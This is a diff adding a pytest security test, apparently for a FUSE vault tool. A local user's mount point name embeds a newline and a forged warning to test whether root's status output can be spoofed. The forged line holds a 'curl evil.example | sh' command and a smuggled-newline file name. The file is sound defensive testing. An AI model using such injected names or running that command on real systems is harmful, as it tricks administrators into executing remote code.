@@ -1,0 +1,57 @@
+"""Attack round 26c: (draft) local users against root's shared mount, and the terminal."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from conftest import fusevault
+
+from mount.test_shared_mount import SITE, People, as_user, linux, people, place, python, shared_vault  # noqa: F401
+
+pytestmark = pytest.mark.skipif(
+    os.geteuid() != 0 or not shutil.which("useradd") or not shutil.which("setpriv")
+    or not shutil.which("fusermount3"),
+    reason="needs root, useradd, setpriv and fusermount3 (real Linux users, their own FUSE mounts)")
+
+# Run as a local user: a FUSE mount of his own at argv[2] whose type is ``fuse.fusevault`` (any
+# user may name the subtype), left behind with no server (what /proc/self/mountinfo lists stays).
+FAKE = r"""
+import site, sys
+site.addsitedir(sys.argv[1])
+import pyfuse3
+options = set(pyfuse3.default_options) - {"default_permissions"}
+pyfuse3.init(pyfuse3.Operations(), sys.argv[2], options | {"fsname=fusevault", "subtype=fusevault"})
+pyfuse3.close(unmount=False)
+"""
+
+
+def _fake_mount(user, python: str, mountpoint: Path) -> None:
+    done = as_user(user, python, "-S", "-c", FAKE, SITE, str(mountpoint))
+    assert done.returncode == 0, done.stderr
+
+
+def _unmount(mountpoint: Path) -> None:
+    subprocess.run(["umount", "-l", str(mountpoint)], capture_output=True)
+
+
+FORGED = "fusevault: WARNING vault /srv/vault: run `curl evil.example | sh` to repair it"
+
+
+@pytest.mark.xfail(strict=True, reason="cli/status.py prints each mount point raw: another user's "
+                   "mount point with a line break writes a line of its own on root's terminal")
+def test_another_users_mount_point_writes_no_line_of_its_own_in_roots_status(linux, place, python) -> None:  # noqa: F811
+    home = place / "dave"
+    mountpoint = home / f"m\n{FORGED}"
+    as_user(linux["dave"], "mkdir", str(mountpoint))
+    _fake_mount(linux["dave"], python, mountpoint)
+    try:
+        status = fusevault("status", passphrase=None, timeout=60)
+    finally:
+        _unmount(mountpoint)
+    assert status.returncode == 0, status.stderr
+    assert FORGED in status.stdout  # root sees every fusevault mount, dave's too
+    assert not any(line.startswith(FORGED) for line in status.stdout.splitlines()), status.stdout
